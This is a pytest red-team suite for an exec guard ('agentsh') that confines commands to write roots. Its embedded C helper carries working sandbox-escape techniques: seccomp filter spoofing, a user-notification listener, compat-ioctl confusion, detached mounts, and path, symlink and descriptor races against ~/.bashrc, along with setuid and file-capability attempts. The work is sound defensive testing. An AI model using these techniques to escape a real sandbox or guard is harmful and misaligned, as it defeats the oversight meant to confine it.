"""Red team of the exec guard's file-metadata check (agentsh/guard/metadata.py), confined mode.

Each test runs a small C program under the guard and checks the outcome on disk: the mode
or the inode flags of a file outside the write roots must not change.  The program is
compiled once per session with gcc (skipped where there is none).
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from agentsh.guard.doctor import probe_exec_guard
from tests.conftest import write_profile
from tests.test_guard_metadata import attempts, inode_flags, xattrs_work

Run = Callable[..., subprocess.CompletedProcess[str]]
pytestmark = [pytest.mark.skipif(not probe_exec_guard().active, reason="no exec guard here (ptrace unavailable)"),
              pytest.mark.skipif(shutil.which("gcc") is None, reason="no C compiler")]

PROFILE = """\
agentsh: 1
name: mdred
extends: [base]
path: [{py_bin}, /usr/local/bin, /usr/bin, /bin, {helper_dir}]
write: {{allow: ["{{workspace}}"]}}
commands:
  - {{name: helper, run: mdred, decision: allow}}
"""

# One program, one attack per mode; each prints what its calls returned (0 or an errno).
HELPER = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define RESULT(r) ((r) < 0 ? errno : 0)

/* A filter of the line's own for chmod, stacked over agentsh's. */
static int own_filter(unsigned action, unsigned flags) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_chmod, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, action),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {4, f};
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

static int listener;
static void *answer_continue(void *unused) {
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    (void)unused;
    memset(&req, 0, sizeof req);
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) return NULL;
    memset(&resp, 0, sizeof resp);
    resp.id = req.id;
    resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    return NULL;
}

static int send_fd(int sock, int fd) {
    char byte = 0, control[CMSG_SPACE(sizeof(int))];
    struct iovec io = {&byte, 1};
    struct msghdr msg = {0};
    memset(control, 0, sizeof control);
    msg.msg_iov = &io; msg.msg_iovlen = 1; msg.msg_control = control; msg.msg_controllen = sizeof control;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET; c->cmsg_type = SCM_RIGHTS; c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof(int));
    return sendmsg(sock, &msg, 0);
}

static int receive_fd(int sock) {
    char byte, control[CMSG_SPACE(sizeof(int))];
    struct iovec io = {&byte, 1};
    struct msghdr msg = {0};
    int fd;
    msg.msg_iov = &io; msg.msg_iovlen = 1; msg.msg_control = control; msg.msg_controllen = sizeof control;
    if (recvmsg(sock, &msg, 0) <= 0 || !CMSG_FIRSTHDR(&msg)) return -1;
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&msg)), sizeof(int));
    return fd;
}

struct flip { volatile uint32_t *word; uint32_t a, b; volatile int stop; };
static void *flipper(void *arg) {
    struct flip *f = arg;
    while (!f->stop) { *f->word = f->a; *f->word = f->b; }
    return NULL;
}

/* The race's call: chmod to 0666, utimes to 5 s after the epoch, or setxattr user.race. */
static int use_utime, use_xattr;
static int changed(const char *path) {
    struct stat st;
    char value[8];
    if (use_xattr) return getxattr(path, "user.race", value, sizeof value) > 0;
    if (stat(path, &st) != 0) return 0;
    return use_utime ? st.st_mtime == 5 : (st.st_mode & 0777) == 0666;
}
static void change(const char *path) {
    struct timeval times[2] = {{5, 0}, {5, 0}};
    if (use_xattr) setxattr(path, "user.race", "1", 1, 0);
    else if (use_utime) utimes(path, times);
    else chmod(path, 0666);
}

int main(int argc, char **argv) {
    const char *mode = argv[1], *outside = argv[2];
    if (!strcmp(mode, "trace-data") && argc == 4) {
        /* Its own RET_TRACE for chmod says "a descriptor in args[0]"; the path's address is
           chosen so that its low 32 bits are 5, the descriptor of a workspace file. */
        dup2(open(argv[3], O_RDONLY), 5);
        char *page = mmap((void *)0x7f1200000000, 4096, PROT_READ | PROT_WRITE,
                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
        if (page == MAP_FAILED) { printf("mmap %d\n", errno); return 1; }
        strcpy(page + 5, outside);
        printf("filter %d\n", RESULT(own_filter(SECCOMP_RET_TRACE | 3, 0)));
        printf("chmod %d\n", RESULT(syscall(SYS_chmod, page + 5, 0666)));
        return 0;
    }
    if (!strcmp(mode, "listener")) {
        /* Its own RET_USER_NOTIF for chmod, answered "continue" by a thread: that action takes
           precedence over agentsh's RET_TRACE, so the guard never sees the call. */
        listener = own_filter(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
        printf("filter %d\n", RESULT(listener));
        if (listener < 0) return 0;
        pthread_t t;
        pthread_create(&t, NULL, answer_continue, NULL);
        printf("chmod %d\n", RESULT(syscall(SYS_chmod, outside, 0666)));
        pthread_join(t, NULL);
        return 0;
    }
#ifdef __x86_64__
    if (!strcmp(mode, "i386-setflags")) {
        /* A 64-bit process's int 0x80 ioctl with the 64-bit FS_IOC_SETFLAGS number: the
           compat ioctl passes it on to the same code as the native one. */
        int fd = open(outside, O_RDONLY);
        unsigned *flags = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (ioctl(fd, 0x80086601 /* FS_IOC_GETFLAGS */, flags) != 0) { printf("getflags %d\n", errno); return 0; }
        *flags |= 0x80;  /* FS_NOATIME_FL, chattr +A */
        long r;
        __asm__ volatile("push %%rbx\n mov %1, %%ebx\n int $0x80\n pop %%rbx"
                         : "=a"(r) : "r"(fd), "a"(54), "c"(0x40086602), "d"((unsigned)(uintptr_t)flags) : "memory");
        printf("ioctl %ld\n", -r);
        return 0;
    }
#endif
    if (!strcmp(mode, "detached") && argc == 4) {
        /* A child in a user and mount namespace of its own clones the tree `outside` (a
           detached mount) and hands it over; in the clone, argv[3] is named as if it were
           that path from /. */
        int pair[2];
        socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
        pid_t child = fork();
        if (child == 0) {
            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) { printf("unshare %d\n", errno); _exit(0); }
            int tree = syscall(SYS_open_tree, AT_FDCWD, outside, 1 /* OPEN_TREE_CLONE */ | 0x8000 /* AT_RECURSIVE */);
            if (tree < 0) { printf("open_tree %d\n", errno); _exit(0); }
            printf("own-namespace-chmod %d\n", RESULT(syscall(SYS_fchmodat, tree, argv[3], 0666)));
            fflush(stdout);
            send_fd(pair[0], tree);
            _exit(0);
        }
        int tree = receive_fd(pair[1]);
        waitpid(child, NULL, 0);
        if (tree < 0) return 0;
        printf("chmod %d\n", RESULT(syscall(SYS_fchmodat, tree, argv[3], 0666)));
        int fd = openat(tree, argv[3], O_RDONLY);
        printf("fchmod %d\n", RESULT(fchmod(fd, 0666)));
        return 0;
    }
    use_utime = argc > 1 && !strcmp(argv[argc - 1], "utime");
    use_xattr = argc > 1 && !strcmp(argv[argc - 1], "xattr");
    if (!strcmp(mode, "path-race") && argc == 6) {
        /* A thread rewrites the path between the guard's read and the kernel's: `outside`
           and argv[3] (in the workspace) have the same length and differ in four bytes. */
        static char path[4096];
        const char *inside = argv[3];
        size_t at = 0;
        while (outside[at] == inside[at]) at++;
        strcpy(path, inside);
        struct flip f = {(volatile uint32_t *)(path + at), 0, 0, 0};
        memcpy(&f.a, outside + at, 4); memcpy(&f.b, inside + at, 4);
        pthread_t t;
        pthread_create(&t, NULL, flipper, &f);
        int tries, most = atoi(argv[4]);
        for (tries = 1; tries <= most && !changed(outside); tries++) change(path);
        f.stop = 1;
        pthread_join(t, NULL);
        printf("tries %d\n", changed(outside) ? tries - 1 : -1);
        return 0;
    }
    if (!strcmp(mode, "link-race") && argc == 5) {
        /* Another process swaps ./swap between a file and a link to `outside`. */
        symlink(outside, "swap.link");
        close(open("swap", O_CREAT | O_WRONLY, 0600));
        pid_t child = fork();
        if (child == 0)
            for (;;) {
                symlink(outside, "swap.link"); rename("swap.link", "swap");
                close(open("swap.file", O_CREAT | O_WRONLY, 0600)); rename("swap.file", "swap");
            }
        int tries, most = atoi(argv[3]);
        for (tries = 1; tries <= most && !changed(outside); tries++) change("swap");
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        printf("tries %d\n", changed(outside) ? tries - 1 : -1);
        return 0;
    }
    if (!strcmp(mode, "fd-race") && argc == 6) {
        /* A thread dup2s the outside file over the descriptor being changed, and back. */
        static int fds[2];
        fds[0] = open(outside, O_RDONLY);
        fds[1] = open(argv[2 + 1], O_RDONLY);
        struct flip f = {(volatile uint32_t *)&fds[0], 0, 0, 0};
        pthread_t t;
        void *swapper(void *arg) {
            struct flip *s = arg;
            while (!s->stop) { dup2(fds[0], 50); dup2(fds[1], 50); }
            return NULL;
        }
        dup2(fds[1], 50);
        pthread_create(&t, NULL, swapper, &f);
        int tries, most = atoi(argv[4]);
        unsigned long flags = 0;
        int use_ioctl = !strcmp(argv[argc - 1], "ioctl");
        if (use_ioctl && ioctl(fds[0], 0x80086601 /* FS_IOC_GETFLAGS */, &flags) != 0) {
            printf("getflags %d\n", errno); f.stop = 1; pthread_join(t, NULL); return 0;
        }
        flags |= 0x80;  /* chattr +A */
        unsigned long now = 0;
        for (tries = 1; tries <= most; tries++) {
            if (use_ioctl) {
                ioctl(50, 0x40086602 /* FS_IOC_SETFLAGS */, &flags);
                if (ioctl(fds[0], 0x80086601, &now) == 0 && now & 0x80) break;
            } else {
                fchmod(50, 0666);
                if (changed(outside)) break;
            }
        }
        f.stop = 1;
        pthread_join(t, NULL);
        printf("tries %d\n", tries <= most ? tries : -1);
        return 0;
    }
    if (!strcmp(mode, "userns-chmod")) {
        /* In a user namespace of its own (no new mount namespace), the guard cannot act as
           the caller: the call must not fall back to the kernel's racy look-up either. */
        if (unshare(CLONE_NEWUSER) != 0) { printf("unshare %d\n", errno); return 0; }
        printf("chmod %d\n", RESULT(chmod(outside, 0666)));
        return 0;
    }
    if (!strcmp(mode, "errnos") && argc == 4) {
        /* The kernel's own answers, when the guard makes the change: fchmod on an O_PATH
           descriptor, fchmodat2(AT_SYMLINK_NOFOLLOW) on a link (argv[3], in the workspace). */
        printf("fchmod_o_path %d\n", RESULT(fchmod(open(outside, O_PATH), 0644)));
        printf("fchown_o_path %d\n", RESULT(fchown(open(outside, O_PATH), -1, -1)));
        printf("nofollow_link %d\n", RESULT(syscall(452, AT_FDCWD, argv[3], 0644, AT_SYMLINK_NOFOLLOW)));
        printf("missing %d\n", RESULT(chmod("no-such-file", 0644)));
        struct timespec bad[2] = {{0, 2000000000L}, {0, 0}};
        struct timeval bad_usec[2] = {{0, 2000000}, {0, 0}};
        printf("utimensat_bad_nsec %d\n", RESULT(utimensat(AT_FDCWD, argv[3], bad, 0)));
        printf("utimes_bad_usec %d\n", RESULT(utimes(argv[3], bad_usec)));
        printf("futimens_flags %d\n", RESULT(syscall(SYS_utimensat, open(outside, O_RDONLY), NULL, NULL,
                                                      AT_SYMLINK_NOFOLLOW)));
        printf("futimens_o_path %d\n", RESULT(futimens(open(outside, O_PATH), NULL)));
        struct timespec omit_mtime[2] = {{7, 0}, {0, UTIME_OMIT}};
        printf("utimensat_omit %d\n", RESULT(utimensat(AT_FDCWD, outside, omit_mtime, 0)));
        struct timespec link_times[2] = {{9, 0}, {9, 0}};
        printf("utimensat_link_itself %d\n", RESULT(utimensat(AT_FDCWD, argv[3], link_times, AT_SYMLINK_NOFOLLOW)));
        printf("utimes_now %d\n", RESULT(utimes(outside, NULL)));
        char long_name[300];
        memset(long_name, 'a', sizeof long_name - 1); long_name[sizeof long_name - 1] = 0;
        memcpy(long_name, "user.", 5);
        printf("xattr_long_name %d\n", RESULT(setxattr(outside, long_name, "1", 1, 0)));
        printf("xattr_bad_flags %d\n", RESULT(setxattr(outside, "user.t", "1", 1, 0x40)));
        printf("xattr_set %d\n", RESULT(setxattr(outside, "user.t", "12", 2, XATTR_CREATE)));
        printf("xattr_create_again %d\n", RESULT(setxattr(outside, "user.t", "1", 1, XATTR_CREATE)));
        printf("xattr_remove_missing %d\n", RESULT(removexattr(outside, "user.none")));
        printf("xattr_link_itself %d\n", RESULT(lsetxattr(argv[3], "user.t", "1", 1, 0)));
        printf("fsetxattr_o_path %d\n", RESULT(fsetxattr(open(outside, O_PATH), "user.t", "1", 1, 0)));
        unsigned inode_flags = 0;
        int readable = open(outside, O_RDONLY);
        if (ioctl(readable, 0x80086601 /* FS_IOC_GETFLAGS */, &inode_flags) == 0) {
            inode_flags |= 0x80;  /* chattr +A */
            printf("chattr %d\n", RESULT(ioctl(readable, 0x40086602, &inode_flags)));
            printf("chattr_o_path %d\n", RESULT(ioctl(open(outside, O_PATH), 0x40086602, &inode_flags)));
            printf("chattr_bad_pointer %d\n", RESULT(ioctl(readable, 0x40086602, (void *)16)));
        }
        return 0;
    }
    printf("unknown mode %s\n", mode);
    return 2;
}
"""


@pytest.fixture(scope="session")
def helper_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("mdred-bin")
    source = directory / "mdred.c"
    source.write_text(HELPER)
    subprocess.run(["gcc", "-O2", "-pthread", "-o", str(directory / "mdred"), str(source)], check=True)
    source.unlink()
    return directory


@pytest.fixture
def profile(tmp_path: Path, helper_dir: Path) -> Path:
    py_bin = os.path.dirname(os.path.realpath(sys.executable))
    return write_profile(tmp_path, "mdred", PROFILE.format(py_bin=py_bin, helper_dir=helper_dir))


@pytest.fixture
def outside(home: Path) -> Path:
    path = home / ".bashrc"
    path.write_text("# rc\n")
    path.chmod(0o600)
    return path


def helper(run_agentsh: Run, profile: Path, *args: str) -> dict[str, int]:
    """Run the helper confined; what each of its calls returned."""
    result = run_agentsh("-p", str(profile), "-c", " ".join(["mdred", *args]))
    assert result.returncode == 0, result.stdout + result.stderr
    return {key: int(value) for key, value in (line.split() for line in result.stdout.splitlines())}


def test_a_filter_of_the_lines_own_cannot_say_where_the_target_is(run_agentsh: Run, profile: Path,
                                                                  outside: Path, workspace: Path) -> None:
    """Stacked seccomp filters that return the same action: the newest one's data wins, so
    a line's own RET_TRACE told the guard that chmod's path pointer was a descriptor (the
    workspace file's), the guard allowed it, and ~/.bashrc became 0666."""
    got = helper(run_agentsh, profile, "trace-data", str(outside), str(workspace / "README.md"))
    assert got == {"filter": 0, "chmod": 1}  # EPERM
    assert outside.stat().st_mode & 0o777 == 0o600


def test_a_filter_of_the_lines_own_cannot_answer_for_the_guard(run_agentsh: Run, profile: Path,
                                                               outside: Path) -> None:
    """RET_USER_NOTIF takes precedence over RET_TRACE: a line that installed a listener and
    answered "continue" ran chmod on ~/.bashrc without the guard ever seeing it."""
    got = helper(run_agentsh, profile, "listener", str(outside))
    assert got == {"filter": 1}  # the listener is refused (EPERM); no chmod is tried
    assert outside.stat().st_mode & 0o777 == 0o600


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="int 0x80 is x86's")
def test_i386_ioctl_with_the_64_bit_setflags_number_is_refused(run_agentsh: Run, profile: Path,
                                                                 outside: Path) -> None:
    """The compat ioctl hands FS_IOC_SETFLAGS (the 64-bit number) to the same code as the
    native call: the filter refused only FS_IOC32_SETFLAGS there, and chattr +A went through."""
    flags = inode_flags(outside)
    if flags is None:
        pytest.skip("no inode flags on this file system")
    got = helper(run_agentsh, profile, "i386-setflags", str(outside))
    if got.get("ioctl") == 38:
        pytest.skip("this kernel has no i386 emulation")
    assert got == {"ioctl": 1}
    assert inode_flags(outside) == flags


def test_a_detached_mount_cannot_pass_for_the_workspace(run_agentsh: Run, profile: Path, tmp_path: Path,
                                                          workspace: Path) -> None:
    """A tree outside holding the workspace's path (say /var holds tmp/, when /tmp is a write
    root), cloned by open_tree() in a user namespace: its files' paths read from /proc are
    relative to the clone, so the guard saw the workspace's path and allowed the chmod."""
    clone_root = tmp_path / "outside"
    shaped = clone_root / str(workspace).lstrip("/") / "target"
    shaped.parent.mkdir(parents=True)
    shaped.write_text("x\n")
    shaped.chmod(0o600)
    got = helper(run_agentsh, profile, "detached", str(clone_root), str(shaped.relative_to(clone_root)))
    if "unshare" in got or "open_tree" in got:
        pytest.skip(f"no user namespaces or open_tree here: {got}")
    assert got == {"own-namespace-chmod": 1, "chmod": 1, "fchmod": 1}
    assert shaped.stat().st_mode & 0o777 == 0o600


def test_a_thread_rewriting_the_path_loses_the_race(run_agentsh: Run, profile: Path, outside: Path,
                                                      workspace: Path) -> None:
    """A thread flipped four bytes of chmod's path (`work`, `home`) between the guard's read
    and the kernel's: ~/.bashrc became 0666 within a thousand tries.  The guard now makes the
    chmod itself, on the object it checked."""
    inside = workspace / outside.name
    inside.write_text("x\n")
    assert len(str(inside)) == len(str(outside))  # the same length, four bytes apart
    got = helper(run_agentsh, profile, "path-race", str(outside), str(inside), "3000", "chmod")
    assert got == {"tries": -1}
    assert outside.stat().st_mode & 0o777 == 0o600


def test_a_link_swapped_in_the_workspace_loses_the_race(run_agentsh: Run, profile: Path, outside: Path) -> None:
    """Another process swapped ./swap between a file and a link to ~/.bashrc: won within
    twenty tries, until the guard made the chmod on what it checked."""
    got = helper(run_agentsh, profile, "link-race", str(outside), "3000", "chmod")
    assert got == {"tries": -1}
    assert outside.stat().st_mode & 0o777 == 0o600


def test_a_descriptor_swapped_by_a_thread_loses_the_race(run_agentsh: Run, profile: Path, outside: Path,
                                                          workspace: Path) -> None:
    got = helper(run_agentsh, profile, "fd-race", str(outside), str(workspace / "README.md"), "3000", "chmod")
    assert got == {"tries": -1}
    assert outside.stat().st_mode & 0o777 == 0o600


def test_the_guards_own_change_fails_as_the_kernels_would(run_agentsh: Run, profile: Path, outside: Path,
                                                            workspace: Path) -> None:
    (workspace / "link").symlink_to(workspace / "README.md")
    got = helper(run_agentsh, profile, "errnos", str(workspace / "README.md"), str(workspace / "link"))
    expected = {"fchmod_o_path": 9, "fchown_o_path": 9, "nofollow_link": 95, "missing": 2,  # EBADF, EOPNOTSUPP
                "utimensat_bad_nsec": 22, "utimes_bad_usec": 22, "futimens_flags": 22, "futimens_o_path": 9,
                "utimensat_omit": 0, "utimensat_link_itself": 0, "utimes_now": 0,  # EINVAL
                # ERANGE, EINVAL, EEXIST, ENODATA, EPERM (no user. xattr on a link), EBADF
                "xattr_long_name": 34, "xattr_bad_flags": 22, "xattr_set": 0, "xattr_create_again": 17,
                "xattr_remove_missing": 61, "xattr_link_itself": 1, "fsetxattr_o_path": 9}
    if not xattrs_work(workspace / "README.md"):
        expected = {**expected, **{name: got[name] for name in expected if name.startswith(("xattr", "fsetx"))}}
    if "chattr" in got:  # the file system has inode flags
        expected.update(chattr=0, chattr_o_path=9, chattr_bad_pointer=14)  # EFAULT
    assert got == expected
    if "chattr" in got:
        assert (inode_flags(workspace / "README.md") or 0) & 0x80
    if got["xattr_set"] == 0:
        assert os.getxattr(workspace / "README.md", "user.t") == b"12"
    assert os.lstat(workspace / "link").st_mtime == 9


def test_a_caller_the_guard_cannot_act_as_is_refused(run_agentsh: Run, profile: Path, workspace: Path) -> None:
    """Had the guard let the kernel make the chmod of a caller in a user namespace of its own,
    an unshare() would have given any line the race back."""
    target = workspace / "README.md"
    target.chmod(0o644)
    got = helper(run_agentsh, profile, "userns-chmod", str(target))
    if "unshare" in got:
        pytest.skip(f"no user namespaces here: {got}")
    assert got == {"chmod": 1}
    assert target.stat().st_mode & 0o777 == 0o644


def test_a_thread_rewriting_a_utime_path_loses_the_race(run_agentsh: Run, profile: Path, outside: Path,
                                                        workspace: Path) -> None:
    inside = workspace / outside.name
    inside.write_text("x\n")
    got = helper(run_agentsh, profile, "path-race", str(outside), str(inside), "3000", "utime")
    assert got == {"tries": -1}
    assert outside.stat().st_mtime != 5


def test_a_thread_rewriting_an_xattr_path_loses_the_race(run_agentsh: Run, profile: Path, outside: Path,
                                                         workspace: Path) -> None:
    inside = workspace / outside.name
    inside.write_text("x\n")
    if not xattrs_work(inside):
        pytest.skip("no user xattrs on this file system")
    got = helper(run_agentsh, profile, "path-race", str(outside), str(inside), "3000", "xattr")
    assert got == {"tries": -1}
    assert "user.race" not in os.listxattr(outside)


def test_a_descriptor_swapped_under_chattr_loses_the_race(run_agentsh: Run, profile: Path, outside: Path,
                                                          workspace: Path) -> None:
    """chattr +A on a descriptor a thread kept swapping between a workspace file and
    ~/.bashrc: won after 4 tries while the kernel took the descriptor from the table again;
    the guard now takes the caller's open file once (pidfd_getfd) and makes the ioctl on it."""
    got = helper(run_agentsh, profile, "fd-race", str(outside), str(workspace / "README.md"), "3000", "ioctl")
    if "getflags" in got:
        pytest.skip("no inode flags on this file system")
    assert got == {"tries": -1}


def python_tries(run_agentsh: Run, tmp_path: Path, tries: dict[str, str], setup: str = "") -> dict[str, int]:
    """Run each statement in one confined python3 in the workspace: the errno each failed
    with, 0 if it worked."""
    py_bin = os.path.dirname(os.path.realpath(sys.executable))
    text = (f"agentsh: 1\nname: py\nextends: [base]\npath: [{py_bin}, /usr/bin, /bin]\n"
            'write: {allow: ["{workspace}"]}\ncommands:\n  - {name: py, run: python3, args: ["-c ..."], decision: allow}\n')
    return attempts(run_agentsh, write_profile(tmp_path, "py", text), tries, f"import fcntl\n{setup}")


def test_verity_and_encryption_policy_ioctls_are_decided(run_agentsh: Run, tmp_path: Path, home: Path,
                                                         outside: Path) -> None:
    """fs-verity makes a file read-only for good and an encryption policy locks an empty
    directory; both take a descriptor open for reading.  On a file system with the feature
    they worked outside the write roots; here they must be refused before the kernel's own
    answer (EOPNOTSUPP where the file system lacks them)."""
    (home / "empty").mkdir()
    verity = "b'\\1\\0\\0\\0\\1\\0\\0\\0' + bytes(120)"
    got = python_tries(run_agentsh, tmp_path, {
        "enable_verity": f"fcntl.ioctl(os.open({str(outside)!r}, os.O_RDONLY), 0x40806685, {verity})",
        "encryption_policy": f"fcntl.ioctl(os.open({str(home / 'empty')!r}, os.O_RDONLY), 0x800C6613, bytes(12))",
    })
    assert got == {"enable_verity": 1, "encryption_policy": 1}


SETID_TRIES = {
    "chmod_setuid": "os.chmod('prog', 0o4755)",
    "chmod_setgid_file": "os.chmod('prog', 0o2755)",
    "create_setuid": "os.close(os.open('made', os.O_CREAT | os.O_WRONLY, 0o4755))",
    "tmpfile_setuid": "os.close(os.open('.', os.O_TMPFILE | os.O_WRONLY, 0o4755))",
    "mknod_setuid": "os.mknod('node', 0o100000 | 0o4755)",
    "file_capability": "os.setxattr('prog', 'security.capability', bytes.fromhex('01000002' + '00002000' + '0' * 24))",
}


@pytest.mark.skipif(os.getuid() != 0, reason="only root's set-ID programs and file capabilities raise privileges")
def test_root_cannot_leave_a_setuid_program_or_file_capability_in_the_workspace(run_agentsh: Run, tmp_path: Path,
                                                                             workspace: Path) -> None:
    """A line that runs as root made, in the workspace, a setuid-root copy of a program or
    gave it CAP_SYS_ADMIN as a file capability: anyone who runs it later, outside agentsh,
    has root's power.  Set-ID bits on files and security.capability are refused; a set-group-ID
    directory (shared project trees) is not."""
    shutil.copy("/bin/true", workspace / "prog")
    (workspace / "dir").mkdir()
    got = python_tries(run_agentsh, tmp_path, {**SETID_TRIES, "setgid_dir": "os.chmod('dir', 0o2775)"})
    assert got.pop("setgid_dir") == 0
    assert not [name for name, code in got.items() if code == 0]  # refused (EPERM, or ENOSYS/EOPNOTSUPP)
    for path in workspace.rglob("*"):
        if path.is_file():
            assert not path.stat().st_mode & 0o6000, path
    assert "security.capability" not in os.listxattr(workspace / "prog")
    assert (workspace / "dir").stat().st_mode & 0o2000


def test_a_shared_write_root_itself_keeps_its_mode(run_agentsh: Run, tmp_path: Path, workspace: Path) -> None:
    """/tmp and /var/tmp are write roots of the default profile: a line running as root could
    `chmod 777 /tmp` (the sticky bit gone: any user may delete or swap another's files) or
    chown it, and `tar -xf x.tar -C /tmp` with a `./` member did so by itself.  A write root
    other than the workspace may not change itself; what is in it may, and so may the
    workspace (an archive's `./` extracted there sets its mode and time)."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    py_bin = os.path.dirname(os.path.realpath(sys.executable))
    text = (f"agentsh: 1\nname: shared\nextends: [base]\npath: [{py_bin}, /usr/bin, /bin]\n"
            f'write: {{allow: ["{{workspace}}", "{shared}"]}}\n'
            'commands:\n  - {name: py, run: python3, args: ["-c ..."], decision: allow}\n')
    profile = write_profile(tmp_path, "shared", text)
    statements = [f"os.chmod({str(shared)!r}, 0o777)", f"os.utime({str(shared)!r}, (5, 5))",
                  f"open({str(shared / 'f')!r}, 'w').close()", f"os.chmod({str(shared / 'f')!r}, 0o640)",
                  f"os.chmod({str(workspace)!r}, 0o750)"]
    code = "import json, os\nout = []\n" + "".join(
        f"try:\n    {s}\n    out.append(0)\nexcept OSError as e:\n    out.append(e.errno)\n" for s in statements)
    result = run_agentsh("-p", str(profile), "-c", f"python3 -c {shlex.quote(code + 'print(json.dumps(out))')}")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout.splitlines()[-1]) == [1, 1, 0, 0, 0]
    assert shared.stat().st_mode & 0o7777 == 0o1777
    assert (shared / "f").stat().st_mode & 0o777 == 0o640
    assert workspace.stat().st_mode & 0o777 == 0o750
